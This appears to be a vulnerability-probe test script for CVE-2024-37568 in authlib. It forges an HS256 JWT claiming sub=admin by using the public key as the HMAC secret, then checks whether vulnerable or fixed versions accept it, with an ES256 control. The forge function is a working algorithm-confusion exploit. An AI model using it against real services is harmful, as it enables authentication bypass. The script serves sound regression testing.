# /// vertice-probe
# id = "PYSEC-2024-52"
# aliases = ["CVE-2024-37568"]
# package = "authlib"
# summary = """\
#   jwt.decode takes an asymmetric public key as an HMAC secret, so anyone who knows the public key can forge tokens \
#   with HS256."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:H/A:N" }]
# cwe = ["CWE-327", "CWE-347"]
# kind = "auth-bypass"
# symbols = [
#   "authlib.jose.jwt.decode",
#   "authlib.jose.JsonWebToken",
#   "authlib.jose.JsonWebSignature",
#   "authlib.jose.OctKey",
# ]
#
# [[affected]]
# package = "authlib"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "1.3.1" }] }]
#
# [cases]
# attack = "a token with HS256 over the public key's PEM text is accepted"
# [cases.variants]
# ssh = "the same with the public key in OpenSSH form"
# signature = "the same through JsonWebSignature.deserialize_compact"
# [cases.controls]
# ecdsa = "an ES256 token is accepted, one with a changed claim is refused"
#
# [test]
# vulnerable = "1.3.0"
# fixed = "1.3.1"
# with = ["cryptography==42.0.8"]
# ///
"""CVE-2024-37568: algorithm confusion between public keys and HMAC secrets."""

import base64
import hashlib
import hmac
import json
import sys


def keys():
    """PEM of a fresh private key, PEM and OpenSSH text of its public key."""
    from cryptography.hazmat.backends import default_backend
    from cryptography.hazmat.primitives import serialization as s
    from cryptography.hazmat.primitives.asymmetric import ec

    private = ec.generate_private_key(ec.SECP256R1(), default_backend())
    public = private.public_key()
    return (
        private.private_bytes(s.Encoding.PEM, s.PrivateFormat.PKCS8, s.NoEncryption()),
        public.public_bytes(s.Encoding.PEM, s.PublicFormat.SubjectPublicKeyInfo),
        public.public_bytes(s.Encoding.OpenSSH, s.PublicFormat.OpenSSH),
    )


def b64(raw):
    return base64.urlsafe_b64encode(raw).rstrip(b"=")


def forge(public):
    text = b64(b'{"alg":"HS256","typ":"JWT"}') + b"." + b64(b'{"sub":"admin"}')
    return text + b"." + b64(hmac.new(public, text, hashlib.sha256).digest())


def refused(error):
    if "may not be safe to import" in str(error):
        return "blocked", "the key is refused as a secret: %s" % error
    raise error


def decode(public):
    from authlib.jose import JsonWebToken, jwt

    assert isinstance(jwt, JsonWebToken)
    try:
        claims = jwt.decode(forge(public), public)
    except ValueError as error:
        return refused(error)
    if claims["sub"] == "admin":
        return "exploited", "the forged token was accepted for sub=admin"
    raise RuntimeError("unexpected claims %r" % (claims,))


def attack():
    return decode(keys()[1])


def ssh():
    return decode(keys()[2])


def signature():
    from authlib.jose import JsonWebSignature

    public = keys()[1]
    try:
        data = JsonWebSignature().deserialize_compact(forge(public), public)
    except ValueError as error:
        return refused(error)
    if json.loads(data["payload"].decode()) == {"sub": "admin"}:
        return "exploited", "the forged signature was accepted"
    raise RuntimeError("unexpected payload %r" % (data["payload"],))


def ecdsa():
    from authlib.jose import jwt
    from authlib.jose.errors import BadSignatureError

    private, public, _ = keys()
    token = jwt.encode({"alg": "ES256"}, {"sub": "alice"}, private)
    if jwt.decode(token, public)["sub"] != "alice":
        return "broken", "the claim was lost"
    head, _, tail = token.split(b".")
    try:
        jwt.decode(head + b"." + b64(b'{"sub":"admin"}') + b"." + tail, public)
    except BadSignatureError:
        return "works", "the true token is accepted, the changed one refused"
    return "broken", "a changed token was accepted"


CASES = {"attack": attack, "ssh": ssh, "signature": signature, "ecdsa": ecdsa}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
